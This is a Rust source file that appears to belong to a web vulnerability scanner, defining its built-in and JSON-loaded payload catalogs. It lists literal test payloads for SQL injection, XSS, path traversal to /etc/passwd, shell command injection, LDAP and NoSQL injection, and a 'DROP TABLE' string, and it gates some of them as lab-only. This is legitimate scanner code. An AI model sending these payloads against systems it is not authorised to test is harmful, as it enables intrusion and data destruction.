// Payload catalog for EthioScan
// The scanner only reads entries; content ships as data behind PayloadCatalog

use crate::errors::ScanError;
use crate::models::{Category, PayloadEntry, Profile};
use serde::Deserialize;
use std::path::Path;
use std::str::FromStr;
use tracing::debug;

/// External read-only payload source
pub trait PayloadCatalog: Send + Sync {
    /// Entries allowed under `profile`, in catalog order.
    fn get_payloads(&self, profile: Profile) -> Vec<PayloadEntry>;
}

/// Potentially destructive payloads are excluded unless the operator opts in.
pub fn is_lab_only(category: Category, note: &str) -> bool {
    if category == Category::Traversal {
        return true;
    }
    let note = note.to_ascii_lowercase();
    note.contains("lab-only") || note.contains("destructive")
}

fn filtered(entries: &[PayloadEntry], profile: Profile) -> Vec<PayloadEntry> {
    entries.iter().filter(|e| profile.allows(e)).cloned().collect()
}

/// Default catalog compiled into the binary
pub struct BuiltinCatalog {
    entries: Vec<PayloadEntry>,
}

impl BuiltinCatalog {
    pub fn new() -> Self {
        let mut entries = Vec::new();
        let mut add = |category: Category, payloads: &[&str], note: &str| {
            for payload in payloads {
                entries.push(PayloadEntry::new(
                    category,
                    payload,
                    note,
                    is_lab_only(category, note),
                ));
            }
        };

        add(
            Category::Sqli,
            &[
                "' OR '1'='1",
                "' OR 1=1--",
                "' UNION SELECT NULL--",
                "' OR 'x'='x",
                "1' OR '1'='1",
                "admin'--",
                "' OR 1=1#",
            ],
            "safe SQL injection test",
        );
        add(
            Category::Xss,
            &[
                "<script>alert(1)</script>",
                "<img src=x onerror=alert(1)>",
                "<svg onload=alert(1)>",
                "javascript:alert(1)",
                "<iframe src=javascript:alert(1)></iframe>",
                "<body onload=alert(1)>",
                "<input onfocus=alert(1) autofocus>",
            ],
            "reflected XSS detection",
        );
        add(
            Category::Traversal,
            &[
                "../../../../etc/passwd",
                "..\\..\\..\\..\\windows\\system32\\drivers\\etc\\hosts",
                "....//....//....//etc/passwd",
                "..%2F..%2F..%2F..%2Fetc%2Fpasswd",
                "..%252F..%252F..%252F..%252Fetc%252Fpasswd",
            ],
            "lab-only directory traversal",
        );
        add(
            Category::CommandInjection,
            &["; ls", "| whoami", "& echo test", "`id`", "$(whoami)"],
            "safe command injection test",
        );
        add(
            Category::Ldap,
            &["*", "*)(uid=*", "*)(|(uid=*", "*)(&(uid=*"],
            "safe LDAP injection test",
        );
        add(
            Category::NoSql,
            &["' || '1'=='1", "' || 1==1", "'; return true; //", "'; return 1; //"],
            "safe NoSQL injection test",
        );
        add(
            Category::Sqli,
            &["'; DROP TABLE test--"],
            "destructive SQL injection test",
        );

        Self { entries }
    }
}

impl Default for BuiltinCatalog {
    fn default() -> Self {
        Self::new()
    }
}

impl PayloadCatalog for BuiltinCatalog {
    fn get_payloads(&self, profile: Profile) -> Vec<PayloadEntry> {
        filtered(&self.entries, profile)
    }
}

#[derive(Deserialize)]
struct RawEntry {
    payload: String,
    #[serde(default)]
    note: String,
    #[serde(default)]
    lab_only: Option<bool>,
}

/// Catalog loaded from a JSON file shaped `{"category": [{"payload", "note", "lab_only"?}]}`
pub struct JsonCatalog {
    entries: Vec<PayloadEntry>,
}

impl JsonCatalog {
    pub fn from_file(path: &Path) -> Result<Self, ScanError> {
        let text = std::fs::read_to_string(path)?;
        Self::from_json(&text)
    }

    pub fn from_json(text: &str) -> Result<Self, ScanError> {
        // Sections keep file order; generation priority follows it
        let raw: serde_json::Map<String, serde_json::Value> = serde_json::from_str(text)?;
        let mut entries = Vec::new();

        for (key, value) in raw {
            let category = Category::from_str(&key).map_err(ScanError::Catalog)?;
            if !category.is_payload_category() {
                return Err(ScanError::Catalog(format!(
                    "'{}' is a finding category, not a payload category",
                    key
                )));
            }
            if category == Category::Idor {
                // Numeric perturbations are derived from observed values instead
                debug!("skipping catalog section '{}'", key);
                continue;
            }

            let items: Vec<RawEntry> = serde_json::from_value(value)
                .map_err(|e| ScanError::Catalog(format!("section '{}': {}", key, e)))?;
            for item in items {
                let lab_only = item
                    .lab_only
                    .unwrap_or_else(|| is_lab_only(category, &item.note));
                entries.push(PayloadEntry {
                    category,
                    payload: item.payload,
                    note: item.note,
                    lab_only,
                });
            }
        }

        Ok(Self { entries })
    }
}

impl PayloadCatalog for JsonCatalog {
    fn get_payloads(&self, profile: Profile) -> Vec<PayloadEntry> {
        filtered(&self.entries, profile)
    }
}
